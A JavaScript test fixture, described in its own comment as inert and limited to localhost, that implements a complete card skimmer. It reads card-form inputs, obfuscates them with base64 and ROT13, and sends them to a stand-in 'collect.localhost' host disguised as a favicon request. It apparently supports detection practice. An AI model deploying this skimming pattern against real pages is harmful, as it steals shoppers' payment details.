/* Inert practice fixture: acts on *.localhost only, and what it sends is counted and dropped. */
(() => {
  if (!location.hostname.endsWith('.localhost')) return;
  const home = `${location.protocol}//collect.localhost:${location.port}`;
  const turned = (text) =>
    text.replace(/[a-z]/gi, (sign) => {
      const base = sign < 'a' ? 65 : 97;
      return String.fromCharCode(((sign.charCodeAt(0) - base + 13) % 26) + base);
    });
  const timer = setInterval(() => {
    const fields = [...document.querySelectorAll('#card-form input')];
    const text = fields.map(({ id, value }) => `${id}=${value}`).join('&');
    if (!/card-number=[\d ]{13,}.*code=\d{3}/.test(text)) return;
    clearInterval(timer);
    fetch(`${home}/favicon.ico?${encodeURIComponent(turned(btoa(text)))}`, {
      mode: 'no-cors',
    }).catch(() => {});
  }, 100);
})();
